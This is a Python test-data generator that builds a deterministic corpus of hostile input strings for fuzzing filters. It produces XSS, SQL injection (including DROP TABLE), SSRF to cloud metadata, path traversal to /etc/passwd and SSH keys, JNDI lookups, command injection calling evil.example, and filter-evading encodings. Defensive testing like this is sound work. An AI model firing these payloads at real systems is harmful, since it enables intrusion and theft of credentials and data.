"""Thousands of hostile strings, made by rules: what each kind of attack is made of, recombined.

`corpus(size)` is the same at every run. Each kind is a small grammar; wrappings add what defeats
naive filters: other case, comments inside, encodings, invisible characters, another alphabet.
"""

from __future__ import annotations

import base64
import itertools
import random
from collections.abc import Callable, Iterator
from urllib.parse import quote

SEED = 20_261_125
CANARY = "http://127.0.0.1:1/canary"

_TAGS = ("script", "img", "svg", "iframe", "a", "body", "math", "style")
_EVENTS = ("onerror", "onload", "onfocus", "onclick", "ontoggle")
_ACTS = ("alert(1)", "fetch('//evil.example')", "eval(name)", "location=1")
_TABLES = ("payments", "pay.payment", "vault.card", "pg_shadow", "information_schema.tables")
_TESTS = ("1=1", "'a'='a'", "true", "2>1", "null is null")
_HOSTS = (
    "127.0.0.1", "localhost", "2130706433", "0x7f000001", "0177.0.0.1", "127.1", "[::1]",
    "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "169.254.169.254", "metadata.google.internal",
    "10.0.0.1", "evil.example@127.0.0.1", "127.0.0.1#@evil.example", "①②⑦.⓪.⓪.①",
)  # fmt: skip
_SCHEMES = ("http", "https", "file", "gopher", "dict", "ftp", "jar", "ldap", "data", "javascript")
_FILES = ("etc/passwd", "proc/self/environ", "windows/win.ini", "root/.ssh/id_rsa", "root.key")
_SUMS = ("7*7", "self", "config", "request.application", "''.__class__", "constructor")
_COMMANDS = ("id", "sleep 5", "cat /etc/passwd", "curl evil.example", "nslookup evil.example")
_LOOKUPS = ("jndi", "env", "sys", "java", "lower", "date", "ctx")
_ODD = (
    "\x00", "\x1b[2J", "\x7f", "\x85", "\u00ad", "\u061c", "\u180e", "\u200b", "\u202e", "\u2066",
    "\u2028", "\ufeff", "\ufffe", "\ufff9", "\U000e0041", "\U000e0100", "\ue000", "\U0010ffff",
    "e\u0301", "\u212b", "\u1100\u1161", "\u0378", "a" + "\u0316" * 30, "\u115f", "\u3164",
)  # fmt: skip
_SCRIPTS = ("аdmin", "pаypal", "ⅴisa", "раураl", "Ａｄｍｉｎ", "ſtrongroom", "ıd", "Ω", "ﬃ")


def _markup() -> Iterator[str]:
    for tag, event, act in itertools.product(_TAGS, _EVENTS, _ACTS):
        yield f"<{tag} {event}={act}>"
        yield f'"><{tag}/{event}="{act}">'
    for tag, act in itertools.product(_TAGS, _ACTS):
        yield f"<{tag}>{act}</{tag}>"
        yield f"'-{act}-'"
        yield f"</{tag}><!--{act}-->"


def _queries() -> Iterator[str]:
    for mark, test, end in itertools.product(
        ("'", '"', "')", "$$", "`"), _TESTS, ("--", "#", "/*")
    ):
        yield f"{mark} OR {test} {end}"
    for mark, table in itertools.product(("'", "1", "';", "1)"), _TABLES):
        yield f"{mark} UNION SELECT * FROM {table} --"
        yield f"{mark}; DROP TABLE {table}; --"
        yield f"{mark}; COPY {table} TO PROGRAM 'id'"
    yield from ("'; SELECT pg_sleep(5); --", "1 AND (SELECT 1 FROM pg_sleep(5))", "%' ESCAPE '")


def _urls() -> Iterator[str]:
    for scheme, host in itertools.product(_SCHEMES, _HOSTS):
        yield f"{scheme}://{host}/"
        yield f"{scheme}:{host}"
    yield CANARY


def _paths() -> Iterator[str]:
    ups = ("../", "..\\", "..%2f", "%2e%2e/", "..%c0%af", "....//", "..;/", "/./../")
    for up, file, count in itertools.product(ups, _FILES, (1, 4, 9)):
        yield up * count + file
        yield f"/var/www/{up * count}{file}\x00.png"


def _templates() -> Iterator[str]:
    marks = ("{{%s}}", "${%s}", "#{%s}", "<%%= %s %%>", "{%% %s %%}", "[[%s]]", "@(%s)", "*{%s}")
    for mark, inner in itertools.product(marks, _SUMS):
        yield mark % inner
    for lookup, mark in itertools.product(_LOOKUPS, ("${%s:ldap://evil.example/a}", "${${%s:a}b}")):
        yield mark % lookup
    yield from (
        "{0.__class__}",
        "%(x)s",
        "%n%n%n%s%s",
        "%x" * 20,
        "{" * 30,
        "%99999999s",
        "{:>9999}",
    )


def _commands() -> Iterator[str]:
    for mark, command in itertools.product((";", "|", "&&", "`", "$(", "\n", "%0a"), _COMMANDS):
        yield f"x{mark}{command}" + {"`": "`", "$(": ")"}.get(mark, "")


def _lines() -> Iterator[str]:
    ends = ("\r\n", "\n", "\r", "%0d%0a", "\u2028", "\\r\\n", "嘊嘍")
    for end, text in itertools.product(ends, ("Set-Cookie: a=b", "X: y", "<html>", "level=error")):
        yield f"x{end}{text}"
        yield f"{end}{end}{text}"


def _cells() -> Iterator[str]:
    for mark, body in itertools.product("=+-@\t\r|%", ("cmd|'/C calc'!A0", "SUM(1)", "1+1", "x")):
        yield mark + body
        yield f'"{mark}{body}"'


def _unicode() -> Iterator[str]:
    for odd in _ODD:
        yield odd
        yield f"name{odd}value"
    yield from _SCRIPTS
    yield from ("\ud83d", "\udca9x", "\U0001f468\u200d\U0001f469", "नमस्ते", "שלום", "ÅÄÖ", "東京")


def _structure() -> Iterator[str]:
    yield from ("null", "true", "[]", "{}", '{"a":1}', "__proto__", "constructor", "NaN", "-0")
    yield from ("\\u0000", "\\", '"', "'", "]]>", "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///x'>]>")
    yield from ("*)(uid=*", "() { :;}; id", "A" * 90, "\U0001f4a9" * 40, "(" * 60, "a?" * 30)


KINDS = (
    _markup,
    _queries,
    _urls,
    _paths,
    _templates,
    _commands,
    _lines,
    _cells,
    _unicode,
    _structure,
)

WRAPPINGS: tuple[Callable[[str], str], ...] = (
    str.upper,
    str.swapcase,
    lambda text: quote(text, safe="", errors="surrogatepass"),
    lambda text: quote(quote(text, safe="", errors="surrogatepass"), safe=""),
    lambda text: text.replace(" ", "/**/"),
    lambda text: text.replace(" ", "\u00a0"),
    lambda text: "\u200b".join(text),
    lambda text: "".join(f"&#{ord(char)};" for char in text),
    lambda text: "".join(f"\\u{ord(char) & 0xFFFF:04x}" for char in text),
    lambda text: base64.b64encode(text.encode("utf-8", "surrogatepass")).decode(),
    lambda text: "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text),
    lambda text: f"honest words {text} and more",
    lambda text: text + text,
    lambda text: text[::-1],
)


def seeds() -> list[str]:
    """Every string of every kind, once."""
    return list(dict.fromkeys(text for kind in KINDS for text in kind()))


def corpus(size: int) -> list[str]:
    """Return so many different strings: the seeds first, then seeds in wrappings."""
    chance = random.Random(SEED)  # noqa: S311 (a corpus, not a secret)
    found = dict.fromkeys(seeds())
    base = list(found)
    while len(found) < size:
        text = chance.choice(base)
        for _ in range(chance.randrange(1, 3)):
            text = chance.choice(WRAPPINGS)(text)
        if len(text) <= 4_000:
            found[text] = None
    return list(found)[:size]
